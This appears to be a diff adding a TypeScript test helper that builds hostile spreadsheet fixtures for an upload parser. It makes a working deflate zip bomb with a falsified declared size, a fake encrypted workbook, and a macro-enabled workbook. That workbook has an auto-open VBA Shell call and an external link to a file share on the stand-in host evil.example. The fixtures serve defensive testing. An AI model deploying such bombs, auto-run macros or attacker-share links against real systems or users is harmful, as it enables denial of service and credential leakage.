@@ -1,0 +1,167 @@
+/**
+ * Low-level builders for the hostile corpus: a real deflate zip bomb (built without ever holding the
+ * inflated data), a password-protected workbook as Excel stores one (an OLE/CFB container with
+ * EncryptionInfo and EncryptedPackage streams), a macro-enabled workbook with an external link, and
+ * a way to rewrite parts of a workbook written by tests/helpers/ooxml.ts.
+ */
+import { constants, deflateRawSync } from 'node:zlib';
+import * as XLSX from 'xlsx';
+import { crc32, readZip, writeZip, type ZipEntry } from '../helpers/ooxml';
+
+/** Rewrites, drops (patch returns null) or adds parts of a zip package. */
+export function patchZip(bytes: Buffer, patches: Record<string, (text: string) => string | null>, add: ZipEntry[] = []): Buffer {
+  const entries: ZipEntry[] = [];
+  for (const e of readZip(bytes)) {
+    const patch = patches[e.name];
+    if (!patch) {
+      entries.push({ name: e.name, data: e.data });
+      continue;
+    }
+    const text = patch(e.data.toString('utf8'));
+    if (text !== null) entries.push({ name: e.name, data: Buffer.from(text, 'utf8') });
+  }
+  return writeZip([...entries, ...add]);
+}
+
+interface RawEntry {
+  name: string;
+  /** Deflated bytes, already compressed. */
+  deflated: Buffer;
+  crc: number;
+  /** The size the central directory declares (a bomb lies here). */
+  declaredSize: number;
+}
+
+/** A zip whose entries are given already deflated (method 8), with whatever sizes they declare. */
+function writeRawZip(entries: readonly RawEntry[]): Buffer {
+  const parts: Buffer[] = [];
+  const central: Buffer[] = [];
+  let offset = 0;
+  for (const e of entries) {
+    const name = Buffer.from(e.name, 'utf8');
+    const header = (signature: number, size: number) => {
+      const b = Buffer.alloc(size);
+      b.writeUInt32LE(signature, 0);
+      return b;
+    };
+    const local = header(0x04034b50, 30);
+    local.writeUInt16LE(20, 4);
+    local.writeUInt16LE(8, 8);
+    local.writeUInt16LE(33, 12); // 1980-01-01
+    local.writeUInt32LE(e.crc, 14);
+    local.writeUInt32LE(e.deflated.length, 18);
+    local.writeUInt32LE(e.declaredSize, 22);
+    local.writeUInt16LE(name.length, 26);
+    const c = header(0x02014b50, 46);
+    c.writeUInt16LE(20, 4);
+    c.writeUInt16LE(20, 6);
+    c.writeUInt16LE(8, 10);
+    c.writeUInt16LE(33, 14);
+    c.writeUInt32LE(e.crc, 16);
+    c.writeUInt32LE(e.deflated.length, 20);
+    c.writeUInt32LE(e.declaredSize, 24);
+    c.writeUInt16LE(name.length, 28);
+    c.writeUInt32LE(offset, 42);
+    parts.push(local, name, e.deflated);
+    central.push(c, name);
+    offset += 30 + name.length + e.deflated.length;
+  }
+  const dir = Buffer.concat(central);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(entries.length, 8);
+  end.writeUInt16LE(entries.length, 10);
+  end.writeUInt32LE(dir.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...parts, dir, end]);
+}
+
+function rawEntry(name: string, text: string): RawEntry {
+  const data = Buffer.from(text, 'utf8');
+  return { name, deflated: deflateRawSync(data), crc: crc32(data), declaredSize: data.length };
+}
+
+/**
+ * A deflate stream that inflates to `inflatedMb` MB of spaces: one MB of spaces deflated with a sync
+ * flush (a non-final block ending on a byte boundary, back-references only inside itself) repeated,
+ * then an empty final block. About 1 KB per inflated MB.
+ */
+export function deflateBomb(inflatedMb: number): Buffer {
+  const chunk = deflateRawSync(Buffer.alloc(1024 * 1024, 0x20), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
+  const finalEmptyBlock = Buffer.from([0x03, 0x00]);
+  return Buffer.concat([...Array.from({ length: inflatedMb }, () => chunk), finalEmptyBlock]);
+}
+
+/**
+ * A well-formed .xlsx whose worksheet inflates to `inflatedMb` MB while its central directory
+ * declares a harmless 2 KB, so only counting the inflated bytes as they stream can catch it.
+ */
+export function zipBombXlsx(inflatedMb: number): Buffer {
+  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
+  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  return writeRawZip([
+    rawEntry('[Content_Types].xml', `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`),
+    rawEntry('_rels/.rels', `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
+    rawEntry('xl/workbook.xml', `<?xml version="1.0"?><workbook xmlns="${main}" xmlns:r="${rel}"><sheets><sheet name="Activiteiten" sheetId="1" r:id="rId1"/></sheets></workbook>`),
+    rawEntry('xl/_rels/workbook.xml.rels', `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
+    { name: 'xl/worksheets/sheet1.xml', deflated: deflateBomb(inflatedMb), crc: 0, declaredSize: 2048 },
+  ]);
+}
+
+interface CfbApi {
+  utils: { cfb_new(): unknown; cfb_add(cfb: unknown, name: string, content: Buffer): void };
+  write(cfb: unknown, options: { type: 'buffer' }): Buffer | Uint8Array;
+}
+
+/**
+ * What Excel writes for "Encrypt with password": an OLE compound file (not a zip) with an
+ * EncryptionInfo stream (agile encryption, version 4.4, XML descriptor) and the encrypted package.
+ * Written with SheetJS' CFB container writer, so it is a structurally valid compound file.
+ */
+export function encryptedXlsx(): Buffer {
+  const cfbApi = XLSX.CFB as CfbApi;
+  const cfb = cfbApi.utils.cfb_new();
+  const info = Buffer.concat([
+    Buffer.from([0x04, 0x00, 0x04, 0x00, 0x40, 0x00, 0x00, 0x00]),
+    Buffer.from('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>', 'utf8'),
+  ]);
+  const pkg = Buffer.alloc(8192);
+  pkg.writeBigUInt64LE(8000n, 0);
+  for (let i = 8; i < pkg.length; i++) pkg[i] = (i * 131 + 7) & 0xff;
+  cfbApi.utils.cfb_add(cfb, '/EncryptionInfo', info);
+  cfbApi.utils.cfb_add(cfb, '/EncryptedPackage', pkg);
+  return Buffer.from(cfbApi.write(cfb, { type: 'buffer' }));
+}
+
+/**
+ * Turns a workbook into a macro-enabled one (.xlsm) with a VBA project (an auto-open macro's
+ * container) and an external link to another workbook on a network share.
+ */
+export function withMacrosAndExternalLink(xlsx: Buffer): Buffer {
+  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+  const vba = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nShell "calc.exe"\r\nEnd Sub\r\n', 'latin1')]);
+  const externalLink = `<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${rel}"><externalBook r:id="rId1"><sheetNames><sheetName val="Blad1"/></sheetNames><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>van buiten</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>`;
+  return patchZip(
+    xlsx,
+    {
+      '[Content_Types].xml': (t) =>
+        t
+          .replace('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml')
+          .replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'),
+      'xl/_rels/workbook.xml.rels': (t) =>
+        t.replace(
+          '</Relationships>',
+          `<Relationship Id="rId90" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/><Relationship Id="rId91" Type="${rel}/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>`,
+        ),
+      'xl/workbook.xml': (t) => t.replace('</sheets>', '</sheets><externalReferences><externalReference r:id="rId91"/></externalReferences>'),
+    },
+    [
+      { name: 'xl/vbaProject.bin', data: vba },
+      { name: 'xl/externalLinks/externalLink1.xml', data: Buffer.from(externalLink, 'utf8') },
+      {
+        name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
+        data: Buffer.from(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/externalLinkPath" Target="file://///evil.example/share/bron.xlsx" TargetMode="External"/></Relationships>`, 'utf8'),
+      },
+    ],
+  );
+}
